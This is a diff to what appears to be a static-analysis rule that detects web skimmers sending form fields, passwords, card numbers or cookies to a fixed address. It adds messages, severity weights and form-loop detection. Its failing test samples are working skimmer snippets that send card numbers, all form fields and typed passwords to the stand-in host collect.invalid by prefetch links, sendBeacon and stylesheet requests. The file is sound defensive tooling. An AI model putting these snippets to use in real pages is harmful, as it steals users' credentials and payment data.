@@ -1,3 +1,4 @@
+import { waysTo } from '../src/define/ways.js';
 import {
   beacons,
   defineRule,
@@ -20,6 +21,7 @@ interface Sent {
   readonly address: string | undefined;
   /** A form is pointed elsewhere, with its own content in the address. */
   readonly repoints: boolean;
+  readonly node: AnyNode;
 }
 
 export default defineRule({
@@ -38,6 +40,9 @@ export default defineRule({
       both: 'Sends form fields and cookies of the page through {sink}',
       cookies: 'Sends all cookies of the page to an address fixed in its code',
       harvest: 'Gathers the fields of any form of the page and sends them to an address fixed in its code',
+      lurks:
+        'Looks for password or card fields of any page that loads it, and sends what is typed to an address fixed in its code',
+      listens: 'Sends what is typed into any page that loads it to an address fixed in its code',
       fields: 'Sends what is typed into the page to an address fixed in its code',
       page: 'Sends {what} of the page through {sink}',
     },
@@ -51,6 +56,8 @@ export default defineRule({
       both: 11,
       harvest: 10,
       cookies: 8.5,
+      lurks: 13.5,
+      listens: 11,
       fields: 4,
       page: 2,
     },
@@ -81,8 +88,20 @@ export default defineRule({
         title: 'a card number leaves by a link that is fetched ahead',
         code: `const field = document.querySelector('input[autocomplete="cc-number"]');\nfield.addEventListener('blur', () => {\n  const link = document.createElement('link');\n  link.rel = 'prefetch';\n  link.href = 'https://collect.invalid/?n=' + encodeURIComponent(field.value);\n  document.head.appendChild(link);\n});`,
       },
+      {
+        title: 'all forms are gone through, time after time',
+        code: `setInterval(() => {\n  const all = {};\n  for (const form of document.forms) for (const field of form.elements) all[field.name] = field.value;\n  navigator.sendBeacon('https://collect.invalid/f', JSON.stringify(all));\n}, 3000);`,
+      },
+      {
+        title: 'a style is asked for by the name of a password',
+        code: `const field = document.querySelector('input[type=password]');\nfield.onkeyup = () => {\n  const link = document.createElement('link');\n  link.rel = 'stylesheet';\n  link.href = 'https://collect.invalid/' + field.value;\n  document.head.append(link);\n};`,
+      },
     ],
     passes: [
+      {
+        title: 'the fields of all forms are kept in the page',
+        code: `setInterval(() => {\n  const all = {};\n  for (const form of document.forms) for (const field of form.elements) all[field.name] = field.value;\n  sessionStorage.setItem('draft', JSON.stringify(all));\n}, 3000);`,
+      },
       {
         title: 'a cookie is parsed',
         code: `module.exports = document.cookie.split('; ').find(c => c.startsWith('csrf='));`,
@@ -113,13 +132,15 @@ export default defineRule({
     for (const one of sent) {
       const found = messageOf(one, interest);
       const whole = found === 'fields' ? 'harvest' : found === 'sensitive' ? 'takes' : undefined;
-      const messageId = whole !== undefined && gathersForms(context) ? whole : found;
+      const told = whole !== undefined && gathersForms(context) ? whole : found;
+      // A library does it once its caller has asked for it, and for the caller's own page.
+      const messageId = (waysTo(context, one.node).isUnasked && told && UNASKED[told]) || told;
       if (messageId) report(one, messageId);
     }
     for (const one of packed) if (interest()) report(one, 'packs');
 
     function report({ labels, sink, step: last }: Sent, messageId: string): void {
-      const looks = /^(?:skims|packs|sensitive|takes)$/.test(messageId) ? interest() : undefined;
+      const looks = /^(?:skims|packs|sensitive|takes|lurks)$/.test(messageId) ? interest() : undefined;
       context.report({
         messageId,
         data: { what: labels[0]?.detail ?? '', sink },
@@ -132,6 +153,9 @@ export default defineRule({
     }
   },
 });
+
+/** What is worse where nobody asks for it: it listens in every page that it is part of. */
+const UNASKED: Readonly<Record<string, string>> = { sensitive: 'lurks', harvest: 'listens', keys: 'listens' };
 
 function messageOf({ labels, address, repoints }: Sent, interest: () => AnyNode | undefined): string | undefined {
   const has = (detail: string): boolean => labels.some(label => label.detail === detail);
@@ -155,6 +179,7 @@ function network(context: FileContext): readonly Sent[] {
       step: step('sink', sinkSays(call), context.file, call.node),
       address: fixedTargetOf(context, call),
       repoints: false,
+      node: call.node,
     };
   });
 }
@@ -171,6 +196,7 @@ function loaded(context: FileContext): readonly Sent[] {
       step: step('sink', says, context.file, node),
       address,
       repoints: /action/i.test(name),
+      node,
     };
   });
 }
@@ -195,6 +221,7 @@ function encoded(context: FileContext): readonly Sent[] {
         step: step('transform', 'encodes them together', context.file, call.node),
         address: undefined,
         repoints: false,
+        node: call.node,
       };
     })
     .slice(0, 3);
@@ -218,7 +245,7 @@ function sensitiveInterest({ nodes, textsOf, named }: FileContext): AnyNode | un
 }
 
 /** All fields of all forms, rather than those of a form of its own. */
-function gathersForms({ named, textsOf }: FileContext): boolean {
+function gathersForms({ named, nodes, namesOf, textsOf }: FileContext): boolean {
   const anyField = named(/(?:^|\.)(?:querySelectorAll|getElementsByTagName)$|^\$$/).some(({ args }) =>
     args[0]
       ? textsOf(args[0]).some(text =>
@@ -229,5 +256,9 @@ function gathersForms({ named, textsOf }: FileContext): boolean {
   const anyForm = named(/^(?:document|window)\.addEventListener$/).some(({ args }) =>
     args[0] ? textsOf(args[0]).some(text => /^(?:submit|input|change)$/.test(text)) : false,
   );
-  return anyField || anyForm;
+  // `for (const form of document.forms)`, `[...document.forms].forEach(…)`
+  const eachForm = [...nodes('ForOfStatement'), ...nodes('SpreadElement'), ...nodes('ForInStatement')].some(node =>
+    namesOf(('right' in node ? node.right : node.argument) as AnyNode, 200).includes('ElementList'),
+  );
+  return anyField || anyForm || eachForm;
 }
